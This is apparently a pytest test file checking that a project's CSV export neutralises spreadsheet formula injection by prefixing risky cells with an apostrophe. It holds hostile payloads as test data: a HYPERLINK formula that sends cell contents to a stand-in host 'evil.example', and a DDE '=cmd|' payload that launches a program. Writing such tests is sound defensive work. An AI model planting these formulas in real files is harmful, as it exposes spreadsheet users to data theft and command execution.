"""CSV that a spreadsheet opens without running what an article holds."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from sayso.exports.csv_table import ACTIVE, write_csv
from tests.night import NIGHT, article
from tests.web.rooms import client_of, crawl, data, ledger_of, room_of

EVIL = '=HYPERLINK("http://evil.example?"&A1,"open")'


def rows(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline="")))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0"])
def test_a_cell_that_would_be_run_is_words(cell: str) -> None:
    assert rows(write_csv(["a"], [[cell]]))[1] == [f"'{cell}"]


@pytest.mark.parametrize(("cell", "shown"), [(-1, "-1"), (0.5, "0.5"), (None, ""), (True, "True"), ("a=1", "a=1")])
def test_other_cells_stay_as_they_are(cell: object, shown: str) -> None:
    assert rows(write_csv(["a", "b"], [[cell, "b"]]))[1] == [shown, "b"]


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=8), min_size=2, max_size=2), max_size=4))
def test_a_table_comes_back_as_it_was_but_for_the_apostrophes(cells: list[list[str]]) -> None:
    header, *back = rows(write_csv(["a", "b"], cells))
    assert header == ["a", "b"]
    for row, given_row in zip(back, cells, strict=True):
        for cell, one in zip(row, given_row, strict=True):
            assert cell.removeprefix("'") == one.removeprefix("'")
            assert not cell.startswith(ACTIVE)


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[TestClient]:
    """A night in which every field begins like a formula."""
    made = [article(f"=id{at}", f"{EVIL}\n\n=1+1 is not two, Ada Quill said.\n\n{one.text}", f"@{EVIL}", "19:42")
            for at, one in enumerate(NIGHT)]  # fmt: skip
    with client_of(room_of(ledger_of(tmp_path / "night.db", *made))) as client:
        yield client


def test_no_table_of_a_hostile_ledger_holds_a_formula(evil: TestClient) -> None:
    seen = 0
    for address, got, _ in crawl(evil, "/"):
        if address.startswith("/api/") and "format=csv" in address:
            assert isinstance(got, bytes)
            for row in rows(got.decode()):
                assert not [cell for cell in row if cell.startswith(ACTIVE) and not cell.lstrip("-").isdecimal()]
            seen += 1
    assert seen > 20


def test_a_table_has_the_rows_of_its_json(night: TestClient) -> None:
    story = data(night, "/L/night/" + data(night, "/L/night/")["stories"][0]["link"])
    table = rows(night.get(f"/api/L/night/{story['link']}?format=csv").text)
    assert [row[0] for row in table[1:]] == [str(point["number"]) for point in story["points"]]
    point = story["points"][0]
    claims = rows(night.get(f"/api/L/night/{point['link']}?format=csv").text)[1:]
    assert [row[-1] for row in claims] == [" … ".join(claim["words"]) for claim in point["claims"]]
    edges = rows(night.get(f"/api/L/night/{story['echoes']}?format=csv").text)[1:]
    assert [row[0] for row in edges] == [edge["child"] for edge in story["edges"]]


def test_a_table_says_what_it_is(night: TestClient) -> None:
    answer = night.get("/api/L/night/?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
